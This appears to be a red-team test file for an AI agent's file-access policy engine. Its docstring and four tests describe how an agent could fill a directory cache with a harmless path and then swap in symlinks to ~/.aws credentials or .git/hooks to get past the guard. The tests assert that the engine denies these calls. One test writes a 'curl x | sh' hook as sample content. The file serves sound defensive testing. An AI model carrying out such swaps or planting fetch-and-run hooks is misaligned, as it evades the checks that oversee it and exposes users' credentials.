@@ -1,0 +1,111 @@
+"""Red team: the short path for file tools cannot be steered by swapping directories.
+
+Threat: the engine proves plain `Read`/`Edit`/`Write` calls allowed on a short path that trusts
+a cache of directories it has already seen (`paths._DirCache`). An agent lets that cache fill
+with an innocent directory, then, with a shell command the engine allows, replaces that
+directory, or one above it, by a symlink into `~/.aws` or the repository's `.git/hooks`, and
+asks for the same innocent-looking path again.
+
+Invariant: a cached directory counts only while the kernel's own view of it (the held
+descriptor's current path) is exactly the path asked about. After any swap the short path
+declines, and the whole pipeline resolves the link and refuses.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+from crustcore_nano.policy.engine import PolicyEngine
+from crustcore_nano.policy.types import ToolCall, Verdict
+
+
+def _short_path_allows(engine: PolicyEngine, call: ToolCall) -> bool:
+    short = engine._fast  # pyright: ignore[reportPrivateUsage]
+    assert short is not None
+    return short.allow(call) is not None
+
+
+def _home_with_aws(home: Path) -> None:
+    """`~/.aws`, where every file is a cloud credential (`notes.txt` too)."""
+    (home / ".aws").mkdir(parents=True)
+    for name in ("credentials", "notes.txt"):
+        (home / ".aws" / name).write_text("[default]\n", encoding="utf-8")
+
+
+def test_parent_directory_swapped_for_a_link_into_home(
+    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
+) -> None:
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    engine = policy_engine(home, ws)
+    _home_with_aws(home)
+    (ws / "deploy" / "aws").mkdir(parents=True)
+    call = ToolCall("Read", {"file_path": "deploy/aws/notes.txt"})
+    assert engine.evaluate(call).verdict is Verdict.ALLOW  # a project file
+    assert _short_path_allows(engine, call)  # the directory is cached now
+
+    os.rename(ws / "deploy" / "aws", ws / "deploy" / "aws.old")
+    os.symlink(home / ".aws", ws / "deploy" / "aws")
+
+    assert not _short_path_allows(engine, call)
+    decision = engine.evaluate(call)
+    assert decision.verdict is Verdict.DENY, decision
+
+
+def test_grandparent_swapped_for_a_link_to_a_tree_of_links(
+    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
+) -> None:
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    engine = policy_engine(home, ws)
+    _home_with_aws(home)
+    (ws / "deploy" / "aws").mkdir(parents=True)
+    call = ToolCall("Read", {"file_path": f"{ws}/deploy/aws/notes.txt"})
+    assert engine.evaluate(call).verdict is Verdict.ALLOW
+    assert _short_path_allows(engine, call)
+
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    os.symlink(home / ".aws", elsewhere / "aws")
+    os.rename(ws / "deploy", ws / "deploy.old")
+    os.symlink(elsewhere, ws / "deploy")
+
+    assert not _short_path_allows(engine, call)
+    assert engine.evaluate(call).verdict is Verdict.DENY
+
+
+def test_directory_swapped_for_the_repositorys_hooks(
+    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
+) -> None:
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    engine = policy_engine(home, ws)
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / "tools").mkdir()
+    call = ToolCall("Write", {"file_path": "tools/pre-commit", "content": "curl x | sh\n"})
+    assert engine.evaluate(call).verdict is Verdict.ALLOW  # a script in the project
+    assert _short_path_allows(engine, call)
+
+    os.rename(ws / "tools", ws / "tools.old")
+    os.symlink(ws / ".git" / "hooks", ws / "tools")
+
+    assert not _short_path_allows(engine, call)
+    assert engine.evaluate(call).verdict is not Verdict.ALLOW
+
+
+def test_file_swapped_for_a_link_in_a_cached_directory(
+    tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]
+) -> None:
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    engine = policy_engine(home, ws)
+    _home_with_aws(home)
+    (ws / "src").mkdir()
+    (ws / "src" / "notes.txt").write_text("notes\n", encoding="utf-8")
+    call = ToolCall("Read", {"file_path": "src/notes.txt"})
+    assert engine.evaluate(call).verdict is Verdict.ALLOW
+    assert _short_path_allows(engine, call)
+
+    (ws / "src" / "notes.txt").unlink()
+    os.symlink(home / ".aws" / "credentials", ws / "src" / "notes.txt")
+
+    assert not _short_path_allows(engine, call)
+    assert engine.evaluate(call).verdict is Verdict.DENY
